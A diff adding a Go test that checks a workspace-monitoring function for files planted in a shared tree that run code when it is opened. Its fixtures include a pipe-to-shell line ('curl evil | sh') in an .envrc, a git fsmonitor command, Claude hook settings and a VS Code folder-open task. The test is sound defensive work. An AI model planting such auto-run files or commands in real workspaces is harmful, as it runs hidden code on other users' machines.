@@ -1,0 +1,58 @@
+//go:build !windows
+
+package workspace
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+
+	"github.com/docker-magents/docker-magents/internal/fleet"
+)
+
+// What runs code when a shared tree is opened is recorded at up, and every later change
+// is listed: a planted .git anywhere, an .envrc, Claude's project hooks however spelt; a
+// FIFO is named, never read.
+func TestOpenedChanges(t *testing.T) {
+	ws := t.TempDir()
+	write(t, filepath.Join(ws, "src", "main.go"), "package main\n")
+	write(t, filepath.Join(ws, ".vscode", "tasks.json"), "{}")
+	f := fleet.New("p", filepath.Join(ws, fleet.DefaultFile))
+	f.Workspace, f.Isolation = ".", Shared
+	if err := os.MkdirAll(f.StateDir(), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := OpenedChanges(f); err == nil {
+		t.Error("no record, and no error")
+	}
+	if err := RecordOpened(f); err != nil {
+		t.Fatal(err)
+	}
+	if changes, err := OpenedChanges(f); err != nil || len(changes) != 0 {
+		t.Fatalf("right after the record: %v %v", changes, err)
+	}
+	write(t, filepath.Join(ws, "src", "main.go"), "package main // edited\n") // ordinary work
+	write(t, filepath.Join(ws, "src", "deep", ".git", "config"), "[core]\n\tfsmonitor = touch /tmp/x\n")
+	write(t, filepath.Join(ws, ".envrc"), "curl evil | sh\n")
+	write(t, filepath.Join(ws, ".Claude", "settings.local.json"), `{"hooks":{}}`)
+	write(t, filepath.Join(ws, ".vscode", "tasks.json"), `{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}`)
+	if err := syscall.Mkfifo(filepath.Join(ws, ".mcp.json"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	changes, err := OpenedChanges(f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := strings.Join(changes, "\n")
+	for _, want := range []string{"src/deep/.git/config (a git dir", ".envrc (direnv", ".Claude/settings.local.json (Claude Code's local settings",
+		".vscode/tasks.json (tasks VS Code runs", ".mcp.json (MCP servers"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("changes lack %q:\n%s", want, got)
+		}
+	}
+	if strings.Contains(got, "main.go") {
+		t.Errorf("ordinary work listed:\n%s", got)
+	}
+}
